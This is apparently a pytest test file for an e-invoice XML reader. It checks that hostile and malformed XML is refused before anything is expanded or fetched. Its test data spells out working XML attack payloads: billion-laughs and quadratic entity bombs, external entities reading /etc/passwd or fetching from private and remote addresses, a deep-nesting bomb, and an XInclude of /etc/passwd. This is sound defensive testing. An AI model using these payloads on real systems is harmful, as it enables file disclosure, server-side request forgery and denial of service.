"""Hostile and broken XML: each refused with its reason before anything is expanded or fetched.

The table is the one the issue asks for (billion laughs, external entities, a 200 MB file, ...);
the network guard proves that no input makes the parser open a connection or a file.
"""

from __future__ import annotations

import builtins
import socket

import pytest

from extraction.einvoice import RefusedXml, read_einvoice
from extraction.einvoice.xml_input import MAX_XML_BYTES, MAX_XML_DEPTH, parse_xml
from extraction.intake.text import UnreadableDocument, extract_document_text

UBL = 'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"'
_DTD_REFUSED = r"^the XML declares a DTD or entities, which e-invoices never need \((DTDForbidden|EntitiesForbidden)\)$"

HOSTILE = [
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><Invoice ' + UBL.encode() + b"><ID>&d;</ID></Invoice>",
        _DTD_REFUSED,
        id="billion-laughs",
    ),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY big "' + b"x" * 100_000 + b'">]>'
        b"<Invoice " + UBL.encode() + b"><ID>" + b"&big;" * 1000 + b"</ID></Invoice>",
        _DTD_REFUSED,
        id="quadratic-blowup",
    ),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        b"<Invoice " + UBL.encode() + b"><ID>&secret;</ID></Invoice>",
        _DTD_REFUSED,
        id="external-entity-file",
    ),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY leak SYSTEM "http://10.0.0.1/leak">]>'
        b"<Invoice " + UBL.encode() + b"><ID>&leak;</ID></Invoice>",
        _DTD_REFUSED,
        id="external-entity-private-address",
    ),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd"> %remote;]>'
        b"<Invoice " + UBL.encode() + b"/>",
        _DTD_REFUSED,
        id="parameter-entity",
    ),
    pytest.param(
        b'<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "http://192.0.2.1/invoice.dtd"><Invoice '
        + UBL.encode()
        + b"/>",
        _DTD_REFUSED,
        id="external-dtd",
    ),
    pytest.param(
        b"<Invoice " + UBL.encode() + b">" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</Invoice>",
        rf"^the XML nests deeper than {MAX_XML_DEPTH} elements$",
        id="deep-nesting",
    ),
    pytest.param(
        b"<Invoice " + UBL.encode() + b"><Note>" + b"x" * (200 * 1024 * 1024) + b"</Note></Invoice>",
        rf"^the XML is 209715\d+ bytes; at most {MAX_XML_BYTES} are read$",
        id="200-MB",
    ),
    pytest.param(
        b"<Invoice " + UBL.encode() + b"><ID>1</Invoice>",
        r"^the XML is not well-formed: mismatched tag",
        id="malformed",
    ),
    pytest.param(b"", r"^the XML is not well-formed: no element found", id="empty"),
    pytest.param(
        b'<?xml version="1.0"?><Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>',
        r"^the XML is not a UBL 2.1 or CII invoice \(root element \{urn:oasis:names:specification:ubl:schema:xsd:Order-2\}Order\)$",
        id="ubl-order-not-invoice",
    ),
    pytest.param(
        b'<rsm:CrossIndustryDocument xmlns:rsm="urn:ferd:CrossIndustryDocument:invoice:1p0"/>',
        r"^ZUGFeRD 1.0 \(CrossIndustryDocument\) predates EN 16931 and is not read$",
        id="zugferd-1.0",
    ),
]


@pytest.fixture
def no_network_or_files(monkeypatch):
    """Any connection or file opened while parsing fails the test: refusal comes first."""

    def refuse(*args, **kwargs):
        raise AssertionError(f"the parser tried to reach {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(builtins, "open", refuse)


@pytest.mark.parametrize(("data", "reason"), HOSTILE)
def test_hostile_or_broken_xml_is_refused_with_its_reason(data: bytes, reason: str, no_network_or_files):
    with pytest.raises(RefusedXml, match=reason):
        read_einvoice(data)


@pytest.mark.parametrize(("data", "reason"), HOSTILE[:3])
def test_an_uploaded_hostile_xml_is_an_unreadable_document_naming_the_refusal(data: bytes, reason: str):
    with pytest.raises(UnreadableDocument) as refused:
        extract_document_text(data, "application/xml")

    assert refused.value.reason.startswith("e-invoice XML refused: the XML declares a DTD or entities")


def test_xinclude_is_not_processed():
    data = (
        b"<Invoice " + UBL.encode() + b' xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<ID>7</ID><xi:include href="file:///etc/passwd" parse="text"/></Invoice>'
    )

    invoice = read_einvoice(data)

    assert invoice.number is not None and invoice.number.text == "7"
    root = parse_xml(data)
    assert [child.tag for child in root] == [
        "{urn:oasis:names:specification:ubl:schema:xsd:Invoice-2}ID",
        "{http://www.w3.org/2001/XInclude}include",
    ]
    assert not any("root:" in (element.text or "") for element in root.iter())
